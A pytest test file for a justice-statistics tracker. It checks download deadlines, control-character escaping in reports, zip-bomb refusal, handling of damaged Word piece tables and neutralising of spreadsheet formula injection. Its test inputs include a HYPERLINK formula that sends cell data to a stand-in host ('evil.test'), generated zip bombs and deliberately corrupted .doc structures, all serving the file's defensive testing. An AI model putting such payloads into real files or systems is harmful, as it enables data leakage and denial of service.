"""Bounded input and output (issue 17): a download has an overall deadline and leaves nothing behind when the
process is stopped; no text from the publisher can forge a line of the update report; a zip container that
would unpack to gigabytes is refused before any parser opens it; a damaged Word piece table fails instead of
looping; and text that a spreadsheet would run as a formula never reaches a processed CSV as one.

Each failure names the URL or file, a command exits non-zero, and what is on disk is as it was (sha256)."""
from __future__ import annotations

import functools
import hashlib
import http.server
import io
import json
import os
import re
import shutil
import signal
import struct
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path
from urllib.parse import urlsplit

import pandas as pd
import pytest

from justice_tracker import cli
from justice_tracker.fetch.classify import Classification
from justice_tracker.fetch.govuk import Candidate, Publication, filename_problem
from justice_tracker.fetch.http import FetchError, HttpClient
from justice_tracker.fetch.lock import SourcesLock
from justice_tracker.fetch.store import download_into_store
from justice_tracker.parsers import base
from justice_tracker.parsers.base import ParseError, sniff_container
from justice_tracker.parsers.wordtext import read_word_text
from justice_tracker.paths import REPO_ROOT
from justice_tracker.tables import FORMULA_STARTS, neutralise_formulas, table_csv_text
from test_fetch_support import (  # noqa: F401  (web is a fixture)
    API, PRISON_COLLECTION, attachment, collection, document_link, ods_body, publication, run, snapshot, web,
)

PAGE = "/government/publications/prison-population-weekly-estate-figures-2025"
PAGE_TITLE = "Prison population: weekly estate figures 2025"
RELEASE = "prison-population-weekly"
BODY = ods_body("13 January 2025, a bulletin" * 40)
BAD = attachment("Population bulletin: weekly 13 January 2025", "prison-pop-13-jan-2025.ods", len(BODY))
TRACEBACK = "Traceback (most recent call last)"


def _candidate(config, item=BAD):
    release = next(r for r in config.releases if r.id == RELEASE)
    return Candidate(release, Publication(PAGE, PAGE_TITLE, None), item["title"], item["url"], item["filename"],
                     item["file_size"], item["content_type"], Classification("weekly", "2025-01-13"))


# --- Downloads: an overall deadline -----------------------------------------------------------------------

class FakeClock:
    def __init__(self):
        self.now = 1000.0

    def __call__(self):
        return self.now

    def sleep(self, seconds):
        self.now += seconds


class Drip(io.RawIOBase):
    """A body that gives one byte per read and moves the clock on a second each time: a server dripping."""

    def __init__(self, clock, size):
        self.clock, self.left, self.served = clock, size, 0

    def readable(self):
        return True

    def readinto(self, buffer):
        if not self.left:
            return 0
        self.clock.now += 1.0
        buffer[:1] = b"x"
        self.left -= 1
        self.served += 1
        return 1


def test_a_dripping_body_fails_at_the_deadline_naming_the_url(web, config, tmp_path):
    clock = FakeClock()
    body = Drip(clock, len(BODY))  # all of it would take len(BODY) "seconds"
    web.add(BAD["url"], io.BufferedReader(body))
    client = HttpClient(min_interval=0, clock=clock, sleep=clock.sleep, deadline=30)
    with pytest.raises(FetchError, match=rf"^{re.escape(BAD['url'])}: not finished within the 30 s allowed for one "
                                         r"download \(30 bytes received\); stopped"):
        download_into_store(client, _candidate(config), tmp_path / "raw", SourcesLock.load(tmp_path / "lock"))
    assert body.served == 30 and list(tmp_path.iterdir()) == []  # stopped at once; no .part, no folder


def test_retries_stop_when_the_deadline_leaves_no_time(web, config, tmp_path):
    clock = FakeClock()
    web.add(BAD["url"], b"busy", status=503, headers={"Retry-After": "20"})
    client = HttpClient(min_interval=0, clock=clock, sleep=clock.sleep, deadline=50)
    with pytest.raises(FetchError, match=rf"^{re.escape(BAD['url'])}: HTTP 503 Service Unavailable; no time left for "
                                         r"another attempt within the 50 s allowed"):
        download_into_store(client, _candidate(config), tmp_path / "raw", SourcesLock.load(tmp_path / "lock"))
    assert web.calls_to(BAD["url"]) == 3 and clock.now == 1040.0  # waited 20 + 20; a third wait would pass 50 s
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("deadline", [0, -1.0])
def test_a_deadline_must_be_positive(deadline):
    with pytest.raises(ValueError, match="deadline must be a positive number of seconds"):
        HttpClient(deadline=deadline)


class _DripHandler(http.server.BaseHTTPRequestHandler):
    """Serves JSON routes at once and /media/ bodies one byte every `gap` seconds (a real slow socket)."""

    def __init__(self, *args, server_state, **kwargs):
        self.state = server_state
        super().__init__(*args, **kwargs)

    def do_GET(self):  # noqa: N802
        path = urlsplit(self.path).path.replace("//", "/")
        body = self.state.routes.get(path)
        if body is None:
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        try:
            if not path.startswith("/media/"):
                self.wfile.write(body)
                return
            for i in range(len(body)):
                if self.state.stop.is_set():
                    return
                self.wfile.write(body[i:i + 1])
                self.wfile.flush()
                time.sleep(self.state.gap)
        except OSError:  # the client gave up: that is the point
            pass

    def log_message(self, *args):
        pass


class DripServer:
    def __init__(self, gap: float):
        self.routes: dict[str, bytes] = {}
        self.gap = gap
        self.stop = threading.Event()
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0),
                                                      functools.partial(_DripHandler, server_state=self))
        self.server.daemon_threads = True
        self.server.handle_error = lambda *args: None
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        local = {**BAD, "url": f"/media/drip/{BAD['filename']}"}
        self.file_url = self.url + local["url"]
        self.title = local["title"]
        self.routes[f"/api/content{PRISON_COLLECTION}"] = json.dumps(collection(
            PRISON_COLLECTION, "Prison population statistics",
            [document_link(PAGE, PAGE_TITLE, "2025-01-20T11:00:00Z")])).encode()
        self.routes[f"/api/content{PAGE}"] = json.dumps(
            publication(PAGE, PAGE_TITLE, "2025-01-20T11:00:00Z", [local])).encode()
        self.routes[local["url"]] = BODY


@pytest.fixture
def drip():
    server = DripServer(gap=0.02)  # the whole body would take len(BODY) * 0.02 s, over 15 s
    thread = threading.Thread(target=server.server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.stop.set()
    server.server.shutdown()
    server.server.server_close()


def test_a_real_slow_server_fails_within_the_deadline(drip, config, tmp_path):
    """Over a real socket a drip never trips the read timeout; the deadline must still end it, on time."""
    (tmp_path / "raw").mkdir()
    before = snapshot(tmp_path)
    started = time.monotonic()
    summary = run(config, tmp_path, only=[RELEASE], api_base=drip.url, deadline=0.4)
    elapsed = time.monotonic() - started
    [failure] = summary.failures
    assert failure.url == drip.file_url and summary.exit_code == 1
    assert re.match(r"not finished within the 0\.4 s allowed for one download \(\d+ bytes received\)", failure.reason)
    assert f"FAILED   [{RELEASE}] {drip.title!r} {drip.file_url}: not finished" in summary.report()
    assert elapsed < 2.0, f"took {elapsed:.1f} s"
    assert snapshot(tmp_path) == before


def _project(tmp_path: Path) -> Path:
    """A project root of its own for the `update` command: tracker.yml, and data/raw with one file in it."""
    root = tmp_path / "project"
    (root / "data" / "raw" / "other").mkdir(parents=True)
    shutil.copy2(REPO_ROOT / "tracker.yml", root / "tracker.yml")
    (root / "data" / "raw" / "other" / "kept.csv").write_text("a,b\n1,2\n")
    return root


@pytest.mark.timeout(60)
@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT], ids=["SIGTERM", "SIGINT"])
def test_a_signal_during_a_download_leaves_no_part_file(drip, tmp_path, sig):
    root = _project(tmp_path)
    before = snapshot(root)
    env = {**os.environ, "JCT_GOVUK_API_BASE": drip.url, "JCT_JUSTICE_DATA_API_BASE": drip.url,
           "PYTHONPATH": str(REPO_ROOT)}
    proc = subprocess.Popen([sys.executable, "-m", "justice_tracker", "--config", str(root / "tracker.yml"),
                             "update", "--no-progress", "--only", RELEASE], cwd=REPO_ROOT, env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    folder = root / "data" / "raw" / RELEASE
    try:
        give_up = time.monotonic() + 40
        while not (folder.is_dir() and any(p.suffix == ".part" for p in folder.iterdir())):  # mid-download
            assert proc.poll() is None and time.monotonic() < give_up, proc.communicate()
            time.sleep(0.05)
        proc.send_signal(sig)
        out, err = proc.communicate(timeout=20)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 130, out + err
    assert TRACEBACK not in err
    assert f"error: update interrupted by {sig.name}; any partial download was removed" in err
    assert snapshot(root) == before  # no .part, no new folder, no lock


# --- The report: nothing from the publisher forges a line --------------------------------------------------

FORGED = "update: 9 new, 0 revised"


@pytest.mark.parametrize("separator", ["\n", "\r", "\u2028", "\x1b[2K\r"], ids=["LF", "CR", "LSEP", "ANSI"])
@pytest.mark.parametrize("where", ["page-title", "attachment-title"])
def test_titles_cannot_forge_a_report_line(web, config, tmp_path, separator, where):
    """A page title is printed in a dry run's listing or a discovery failure, an attachment title in a failure
    line; either way the separator arrives escaped and no line of the report starts with the forged text."""
    page_title = f"Prison population: weekly{separator}{FORGED} figures 2025" if where == "page-title" else PAGE_TITLE
    odd = {**BAD, "title": f"Prison population: notes{separator}{FORGED}"}  # unknown format: a failure line
    web.add(f"{API}/api/content{PRISON_COLLECTION}", collection(
        PRISON_COLLECTION, "Prison population statistics", [document_link(PAGE, page_title, "2025-01-20T11:00:00Z")]))
    web.add(f"{API}/api/content{PAGE}", publication(PAGE, page_title, "2025-01-20T11:00:00Z", [BAD, odd]))
    web.add(BAD["url"], BODY)
    escaped = separator.encode("unicode_escape").decode("ascii")
    # A page title with a newline in it matches no page rule (its `.*` stops at the newline): never listed at all.
    shown = ("no publication title matches" if where == "page-title" and separator == "\n"
             else f"{escaped}{FORGED}")
    for dry_run in (True, False):
        summary = run(config, tmp_path / str(dry_run), only=[RELEASE], dry_run=dry_run)
        report = summary.report()
        lines = report.split("\n")
        assert not any(line.lstrip().startswith(FORGED) for line in lines), report
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u2028\u2029\u202e]", report), repr(report)
        assert summary.exit_code == 1 and shown in report, report


@pytest.mark.parametrize("name", ["x\u2028.ods", "x\u202eSDO.ods", "x\u0085.ods"], ids=["LSEP", "RLO", "NEL"])
def test_names_with_line_or_bidi_characters_are_refused(name):
    assert filename_problem(name) == "the file name has a control character in it"


# --- Zip containers: unpacking limits before any parser ----------------------------------------------------

MIMETYPES = {"ods": "application/vnd.oasis.opendocument.spreadsheet"}
MAIN_MEMBER = {"ods": "content.xml", "xlsx": "xl/workbook.xml", "docx": "word/document.xml"}


def container(path: Path, kind: str, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        if kind in MIMETYPES:
            z.writestr(zipfile.ZipInfo("mimetype"), MIMETYPES[kind])
        z.writestr(MAIN_MEMBER[kind], b"<x/>")
        for name, data in members.items():
            z.writestr(name, data)
    return path


def declare_size(path: Path, member: str, size: int) -> Path:
    """Rewrite the central directory's uncompressed size of `member`: what a forged archive says."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as z:
        info = z.getinfo(member)
    at = data.index(b"PK\x01\x02")  # the first central directory entry
    while True:
        name_len = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46:at + 46 + name_len].decode() == info.filename:
            struct.pack_into("<I", data, at + 24, size)
            break
        extra, comment = struct.unpack_from("<HH", data, at + 30)
        at += 46 + name_len + extra + comment
    path.write_bytes(bytes(data))
    return path


def _parse_cli(path: Path, capsys) -> tuple[int, str]:
    code = cli.main(["parse", str(path)])
    captured = capsys.readouterr()
    return code, captured.out + captured.err


@pytest.mark.parametrize("kind", ["ods", "xlsx", "docx"])
def test_a_zip_bomb_is_refused_before_reading(tmp_path, capsys, kind):
    path = container(tmp_path / f"bulletin.{kind}", kind, {"bomb.xml": b"\0" * (3 * 1024 * 1024)})
    assert path.stat().st_size < 20_000
    before = snapshot(tmp_path)
    code, message = _parse_cli(path, capsys)
    assert code == 1 and TRACEBACK not in message
    assert re.search(rf"^error: bulletin\.{kind}: member 'bomb\.xml' would unpack from [\d,]+ to 3,145,728 bytes "
                     r"\(ratio [\d,]+ to 1, more than the 200 allowed\): a zip bomb", message, re.M), message
    assert snapshot(tmp_path) == before


@pytest.mark.parametrize("case", ["member-size", "total-size", "members"])
def test_declared_sizes_and_member_counts_are_capped(tmp_path, monkeypatch, case):
    if case == "member-size":
        path = declare_size(container(tmp_path / "b.ods", "ods", {"big.xml": b"<a/>"}), "big.xml",
                            base.MAX_MEMBER_BYTES + 1)
        expect = rf"member 'big\.xml' would unpack to {base.MAX_MEMBER_BYTES + 1:,} bytes, more than the"
    elif case == "total-size":
        monkeypatch.setattr(base, "MAX_UNPACKED_BYTES", 20_000)  # three incompressible members of 8 kB each
        path = container(tmp_path / "b.ods", "ods", {n: os.urandom(8000) for n in ("one.xml", "two.xml", "three.xml")})
        expect = rf"members would unpack to more than the {base.MAX_UNPACKED_BYTES:,} bytes allowed in all \(passed at member 'three\.xml'\)"
    else:
        path = container(tmp_path / "b.ods", "ods", {f"m{i}": b"" for i in range(base.MAX_ZIP_MEMBERS)})
        expect = rf"zip container with {base.MAX_ZIP_MEMBERS + 2:,} members, more than the"
    with pytest.raises(ParseError, match=rf"^b\.ods: {expect}"):
        sniff_container(path)


def test_a_zip_bomb_is_not_stored_by_update(web, config, tmp_path):
    bomb = container(tmp_path / "bomb.ods", "ods", {"content2.xml": b"\0" * (3 * 1024 * 1024)}).read_bytes()
    (tmp_path / "bomb.ods").unlink()
    item = {**BAD, "file_size": len(bomb)}
    web.add(f"{API}/api/content{PRISON_COLLECTION}", collection(
        PRISON_COLLECTION, "Prison population statistics", [document_link(PAGE, PAGE_TITLE, "2025-01-20T11:00:00Z")]))
    web.add(f"{API}/api/content{PAGE}", publication(PAGE, PAGE_TITLE, "2025-01-20T11:00:00Z", [item]))
    web.add(item["url"], bomb)
    summary = run(config, tmp_path, only=[RELEASE])
    [failure] = summary.failures
    assert failure.url == item["url"] and summary.exit_code == 1
    assert re.match(r"prison-pop-13-jan-2025\.ods: member 'content2\.xml' would unpack from", failure.reason)
    assert list(tmp_path.iterdir()) == []  # nothing stored, no folder, no lock


def test_real_containers_pass_the_limits(shared_raw):
    docx = sorted((shared_raw / "prison-population-monthly-legacy").glob("*.docx"))
    assert docx and all(sniff_container(p) == "docx" for p in docx)


# --- Word 97 piece tables: every walk ends ------------------------------------------------------------------

def _sample_doc(shared_raw: Path) -> Path:
    for path in sorted((shared_raw / "prison-population-monthly-legacy").glob("*.doc")):
        if sniff_container(path) == "ole":
            return path
    pytest.skip("no OLE .doc among the sample files")


def _clx_location(word: bytes) -> tuple[int, int, int]:
    csw = struct.unpack_from("<H", word, 32)[0]
    lw_start = 32 + 2 + 2 * csw
    cslw = struct.unpack_from("<H", word, lw_start)[0]
    fclcb = lw_start + 2 + 4 * cslw + 2
    fc, lcb = struct.unpack_from("<II", word, fclcb + 8 * 33)
    return fc, lcb, lw_start + 2 + 12  # the Clx in the table stream, and ccpText's offset in WordDocument


def _break_clx(clx: bytearray, how: str) -> None:
    """Damage the piece table (a Clx that starts with its Pcdt, as Word writes it) as a hostile file would."""
    assert clx[0] == 0x02
    size = struct.unpack_from("<i", clx, 1)[0]
    n = (size - 4) // 12
    if how == "prc-negative-size":  # the old walk added 3 + (-3) = 0 to its position: an endless loop
        clx[0:3] = b"\x01" + struct.pack("<h", -3)
    elif how == "prc-size-past-end":
        clx[0:3] = b"\x01" + struct.pack("<h", 0x3000)
    elif how == "pcdt-negative-size":
        struct.pack_into("<i", clx, 1, -12)
    elif how == "pcdt-absurd-size":
        struct.pack_into("<i", clx, 1, 0x7FFFFFF0)
    elif how == "pcdt-odd-size":
        struct.pack_into("<i", clx, 1, size - 5)
    elif how == "cps-backwards":
        struct.pack_into("<i", clx, 5 + 4 * n, -1 if n == 1 else struct.unpack_from("<i", clx, 5)[0] - 1)
        struct.pack_into("<i", clx, 5, 10 ** 6)
    elif how == "piece-past-stream":
        struct.pack_into("<I", clx, 5 + 4 * (n + 1) + 2, 0x3FFFFFF0)  # fc of the first piece, not compressed


DOC_FAULTS = {
    "prc-negative-size": r"a property record \(Prc\) in the Clx at byte 0 has an impossible size -3",
    "prc-size-past-end": r"a property record \(Prc\) in the Clx at byte 0 has an impossible size 12,288",
    "pcdt-negative-size": r"the piece table \(PlcPcd\) has an impossible size -12",
    "pcdt-absurd-size": r"the piece table \(PlcPcd\) has an impossible size 2,147,483,632",
    "pcdt-odd-size": r"the piece table \(PlcPcd\) has an impossible size",
    "cps-backwards": r"the piece table's character positions are negative or go backwards",
    "piece-past-stream": r"a text piece \(characters [\d,]+-[\d,]+\) lies at bytes .* past the end of the",
    "ccp-negative": r"the FIB gives a negative main text length \(ccpText -5\)",
}


@pytest.mark.timeout(20)
@pytest.mark.parametrize("how", list(DOC_FAULTS))
def test_a_damaged_piece_table_fails_and_never_loops(shared_raw, tmp_path, capsys, how):
    import olefile

    path = tmp_path / "bulletin.doc"
    shutil.copy2(_sample_doc(shared_raw), path)
    with olefile.OleFileIO(str(path), write_mode=True) as ole:
        word = bytearray(ole.openstream("WordDocument").read())
        table_name = "1Table" if struct.unpack_from("<H", word, 0x0A)[0] & 0x0200 else "0Table"
        table = bytearray(ole.openstream(table_name).read())
        fc, lcb, ccp_at = _clx_location(word)
        if how == "ccp-negative":
            struct.pack_into("<i", word, ccp_at, -5)
            ole.write_stream("WordDocument", bytes(word))
        else:
            clx = table[fc:fc + lcb]
            _break_clx(clx, how)
            table[fc:fc + lcb] = clx
            ole.write_stream(table_name, bytes(table))
    before = snapshot(tmp_path)
    started = time.monotonic()
    with pytest.raises(ParseError, match=rf"^bulletin\.doc: {DOC_FAULTS[how]}"):
        read_word_text(path)
    assert time.monotonic() - started < 5
    code, message = _parse_cli(path, capsys)
    assert code == 1 and "bulletin.doc: " in message and TRACEBACK not in message
    assert snapshot(tmp_path) == before


# --- Formulas in processed CSVs -------------------------------------------------------------------------------

@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_text_that_a_spreadsheet_would_run_is_neutralised(start):
    name = f'{start}HYPERLINK("https://evil.test/?"&A1,"HMP Example")'
    frame = pd.DataFrame({"prison_name": [name, "HMP Berwyn"], "population": [-3, 1200], "change": [-1.5, 2.0]})
    text = table_csv_text(frame)
    back = pd.read_csv(io.StringIO(text), keep_default_na=False)
    assert back["prison_name"].tolist() == ["'" + name, "HMP Berwyn"]
    assert back["population"].tolist() == [-3, 1200] and back["change"].tolist() == [-1.5, 2.0]
    # Written again from the text read back (as read_typed gives an unschema'd table): the same bytes.
    assert table_csv_text(pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)) == text


def test_numbers_held_as_text_are_left_alone():
    values = ["-12", "+3.5", "-4%", "-1,234", "-.5", "1e-3", "-1+1", "-", "@home"]
    frame = pd.DataFrame({"value": values})
    assert neutralise_formulas(frame)["value"].tolist() == [
        "-12", "+3.5", "-4%", "-1,234", "-.5", "1e-3", "'-1+1", "'-", "'@home"]


def test_no_committed_table_has_a_cell_to_neutralise():
    """The rule changes none of data/processed: every committed table is written as it was."""
    tables = sorted((REPO_ROOT / "data" / "processed").glob("*.csv"))
    assert len(tables) > 10
    for path in tables:
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        assert neutralise_formulas(frame) is frame, path.name
        assert hashlib.sha256(table_csv_text(frame).encode()).digest() == hashlib.sha256(path.read_bytes()).digest(), \
            path.name
